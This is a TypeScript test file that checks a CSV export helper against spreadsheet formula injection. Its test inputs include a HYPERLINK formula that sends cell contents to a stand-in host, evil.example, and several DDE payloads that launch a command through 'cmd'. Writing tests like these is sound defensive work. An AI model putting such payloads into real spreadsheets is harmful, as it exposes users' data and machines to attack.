import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { describe, expect, it } from "vitest";
import { CSV_STRINGIFY_OPTIONS, csvCell, restoreCsvCell } from "./csv-cell";

const line = (v: unknown) => stringify([["a", csvCell(v), "z"]], CSV_STRINGIFY_OPTIONS);

describe("CSV cells a spreadsheet will not run", () => {
  it.each([
    ["=", '=HYPERLINK("https://evil.example?"&A1,"details")'],
    ["+", "+1+cmd|' /C calc'!A0"],
    ["-", "-2+3+cmd|' /C calc'!A0"],
    ["@", "@SUM(1+1)*cmd|' /C calc'!A0"],
    ["tab", "\t=1+1"],
    ["carriage return", "\r=1+1"],
    ["quotes before a trigger", "''=1+1"],
  ])("a string starting with %s gets one quote and is quoted", (_name, value) => {
    expect(csvCell(value)).toBe(`'${value}`);
    const row = line(value);
    // The cell starts with a double quote then the single quote: no spreadsheet reads it as a formula.
    expect(row.startsWith(`a,"'`)).toBe(true);
    const [cells] = parse(row) as string[][];
    expect(cells![1]).toBe(`'${value}`);
    expect(restoreCsvCell(cells![1]!)).toBe(value);
  });

  it.each([
    ["a negative number", -3.5, "a,-3.5,z\n"],
    ["zero", 0, "a,0,z\n"],
    ["null", null, "a,,z\n"],
    ["a plain string", "disk full", "a,disk full,z\n"],
    ["a string with a trigger later on", "a=b+c", "a,a=b+c,z\n"],
    ["a quote not before a trigger", "'quoted'", "a,'quoted',z\n"],
    ["an object (JSON)", { h: "=1" }, 'a,"{""h"":""=1""}",z\n'],
  ])("%s is written as is", (_name, value, row) => {
    expect(line(value)).toBe(row);
  });

  it("restore leaves cells the export did not neutralise alone", () => {
    for (const s of ["plain", "'quoted'", "'", "-3.5", "=typed by hand"]) expect(restoreCsvCell(s)).toBe(s);
  });
});
